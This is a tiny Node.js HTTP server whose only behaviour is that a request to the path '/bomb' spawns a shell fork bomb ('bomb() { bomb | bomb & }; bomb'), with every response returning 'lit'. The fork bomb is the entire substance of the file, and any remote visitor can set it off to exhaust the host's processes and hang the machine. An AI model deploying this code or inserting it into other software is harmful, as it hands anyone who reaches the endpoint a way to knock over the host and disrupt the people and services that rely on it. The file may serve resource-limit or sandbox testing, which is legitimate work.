const { spawn } = require("node:child_process");
const { createServer } = require("node:http");

createServer((request, response) => {
  if (request.url === "/bomb")
    spawn("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb"]).on("error", () => {});
  response.end("lit");
}).listen(process.env.PORT);
